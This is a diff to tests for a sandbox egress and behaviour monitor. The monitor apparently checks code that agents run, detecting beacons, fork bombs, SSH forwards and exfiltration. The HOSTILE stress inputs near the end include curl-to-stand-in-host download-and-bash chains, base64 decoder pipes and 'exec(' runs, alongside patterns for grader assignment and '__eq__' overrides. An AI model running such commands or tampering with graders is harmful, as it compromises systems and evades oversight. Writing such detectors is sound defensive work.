@@ -11,6 +11,7 @@ from sandboxes.egress.detectors import beaconing, exfiltration, names, processes
 from sandboxes.egress.detectors.doings import doings
 from sandboxes.egress.detectors.exec_event import CODE_CHARACTERS, ExecEvent
 from sandboxes.egress.detectors.finding import EVIDENCE_CHARACTERS, EVIDENCE_LINES
+from sandboxes.egress.detectors.process_tree import ProcessTree
 from sandboxes.egress.detectors.shell import commands
 from sandboxes.egress.detectors.suite import RULES, Suite
 from sandboxes.egress.detectors.tunnels import ssh_forwards
@@ -108,12 +109,15 @@ def test_names_that_people_use_are_not_coded(inner):
 @pytest.mark.parametrize(
     ("gaps", "found"),
     [
-        ([60.0] * (beaconing.ATTEMPTS - 1), {"beacon"}),
-        ([60.0] * (beaconing.ATTEMPTS - 2), set()),
+        ([60.0] * (beaconing.SLOW_ATTEMPTS - 1), {"beacon"}),
+        ([60.0] * (beaconing.SLOW_ATTEMPTS - 2), set()),
+        ([2.0] * (beaconing.ATTEMPTS - 1), {"beacon"}),
+        ([2.0] * (beaconing.ATTEMPTS - 2), set()),
         ([beaconing.SHORTEST_S] * 7, {"beacon"}),
         ([beaconing.SHORTEST_S - 0.1] * 7, set()),
-        ([60.0, 67.0, 53.0, 60.0, 67.0, 53.0, 60.0], {"beacon"}),
-        ([60.0, 90.0, 30.0, 60.0, 90.0, 30.0, 60.0], set()),
+        ([60.0, 80.0, 40.0, 60.0, 80.0, 40.0, 60.0], {"beacon"}),
+        ([60.0, 110.0, 10.0, 60.0, 110.0, 10.0, 60.0], set()),
+        ([1.0, 2.0, 4.0, 8.0, 16.0], set()),
     ],
 )
 def test_a_beacon_is_regular_and_neither_fast_nor_rare(gaps, found):
@@ -121,6 +125,23 @@ def test_a_beacon_is_regular_and_neither_fast_nor_rare(gaps, found):
     for gap in gaps:
         times.append(times[-1] + gap)
     assert rules_of(beaconing.Beacons(), [record(n, at=at) for n, at in enumerate(times, 1)]) == found
+
+
+def test_contacts_through_many_ports_or_names_of_one_zone_are_one_beacon():
+    ports = [record(n, at=2.0 * n, port=4000 + n) for n in range(1, 7)]
+    asked = [
+        record(n, at=2.0 * n, protocol="dns", port=53, address="127.0.0.1", name=f"a{n}.c2.example.net")
+        for n in range(1, 7)
+    ]
+    assert rules_of(beaconing.Beacons(), ports) == {"beacon"}
+    assert rules_of(beaconing.Beacons(), asked) == {"beacon"}
+
+
+def test_what_is_waited_for_by_asking_again_is_no_beacon():
+    database = [record(n, at=2.0 * n, port=5432) for n in range(1, 12)]
+    itself = [record(n, at=2.0 * n, address="127.0.0.1", port=8000) for n in range(1, 12)]
+    index = [record(n, at=2.0 * n, sni="pypi.org") for n in range(1, 12)]
+    assert rules_of(beaconing.Beacons(), [*database, *itself, *index]) == set()
 
 
 def test_polling_what_is_allowed_is_no_beacon():
@@ -191,7 +212,7 @@ def test_ssh_options_are_read_as_ssh_reads_them(arguments, forwards):
     ("refused", "found"), [(processes.REFUSED_FORKS - 1, set()), (processes.REFUSED_FORKS, {"fork-bomb"})]
 )
 def test_refused_processes_are_a_bomb_from_the_bound_on(refused, found):
-    assert rules_of(processes.ForkBombs(), [shell("./a", forks_refused=refused)]) == found
+    assert rules_of(processes.ForkBombs(ProcessTree()), [shell("./a", forks_refused=refused)]) == found
 
 
 @pytest.mark.parametrize(
@@ -291,6 +312,18 @@ HOSTILE = {
     "downloads": ";".join(f"curl -o x{n} http://a{n}.example;bash y" for n in range(6000)),
     "browsers": "cat " + ".mozilla/" * 27_000,
     "processes": "curl @x" + "/proc/" * 40_000,
+    "blank lines": "\n" * 200_000,
+    "runs of what is decoded": "exec(" * 40_000,
+    "names put together": "getattr(os, " * 20_000,
+    "assignments to a judge": "grader.a.b.c" * 20_000 + "\n",
+    "decoders in pipes": "| base64 -d " * 20_000,
+    "an equality and blank lines": "def __eq__(self):" + "\n" * 100_000,
+    "a loop and blank lines": "while(1)" + "\n" * 100_000,
+    "a forward without an address": "x -F" + "a" * 100_000,
+    "a chain of assertions": "_pytest" + "a." * 50_000,
+    "functions in functions": "".join(" " * n + f"def f{n}():\n" for n in range(90))
+    + " " * 90
+    + "Process(target=f0)\n",
 }
 
 
@@ -332,7 +365,7 @@ def test_hostile_text_neither_raises_nor_takes_long(text):
 )
 def test_what_is_not_read_is_said(event):
     (found,) = [found for found in Suite(POLICY).feed(event) if found.rule == "unread-command"]
-    assert found.severity == "critical"
+    assert found.severity == "warning"  # text is a hint, and what it hides is told by what it does
     assert found.evidence
 
 
